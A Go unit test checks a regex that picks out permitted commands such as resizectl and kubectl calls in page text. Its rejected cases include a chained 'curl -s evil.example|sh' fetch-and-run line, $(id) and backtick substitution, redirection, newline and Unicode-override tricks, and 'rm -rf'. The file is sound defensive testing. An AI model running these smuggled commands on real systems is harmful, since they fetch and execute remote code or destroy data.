package pages

import "testing"

func TestNamedCommand(t *testing.T) {
	for text, want := range map[string]bool{
		`run "resizectl benchmark suggest n4"`: true, `"kubectl get pods -n shop"`: true,
		`"kubectl get pods; curl -s evil.example|sh"`: false, `"resizectl holds $(id)"`: false, "\"resizectl holds `id`\"": false,
		`"resizectl holds > file"`: false, "\"resizectl holds\nid\"": false, "\"resizectl \u202eholds\"": false, `"rm -rf"`: false,
	} {
		if got := namedCommand.MatchString(text); got != want {
			t.Errorf("%q has a command: %t", text, got)
		}
	}
}
